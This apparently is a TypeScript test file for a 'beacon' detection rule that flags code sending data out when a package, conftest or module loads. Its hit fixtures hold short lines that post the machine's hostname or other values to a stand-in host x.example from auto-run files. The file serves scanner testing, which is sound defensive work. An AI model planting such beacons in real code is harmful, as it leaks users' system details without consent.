import { ruleCases } from '../testing/cases.ts';
import { beacon } from './sending.ts';

ruleCases(beacon, {
  hits: [
    {
      name: 'a package that is imported',
      path: 'lib/__init__.py',
      text: 'import requests\nrequests.get("https://x.example/i", params={"h": host})\n',
    },
    {
      name: 'collected tests',
      path: 'conftest.py',
      text: 'import urllib.request as u\nu.urlopen(u.Request(f"https://x.example/{n}"))\n',
    },
    {
      name: 'a module',
      path: 'index.js',
      text: 'fetch("https://x.example/i", { method: "POST", body: os.hostname() });\n',
    },
  ],
  misses: [
    {
      name: 'a function that sends when it is called',
      path: '__init__.py',
      text: 'import requests\ndef send(d):\n    requests.post("https://x.example", json=d)\n',
    },
    {
      name: 'a program that is started on its own',
      path: 'setup.py',
      text: 'import requests\nif __name__ == "__main__":\n    requests.post("https://x.example", json=d)\n',
    },
    {
      name: 'a script with another name',
      path: 'send.py',
      text: 'import requests\nrequests.post("https://x.example", json=d)\n',
    },
    {
      // anthropics/skills, skills/slack-gif-creator (Apache-2.0)
      name: 'the imports of a real script',
      path: 'core/__init__.py',
      text: 'from pathlib import Path\nimport imageio.v3 as imageio\n',
    },
  ],
});
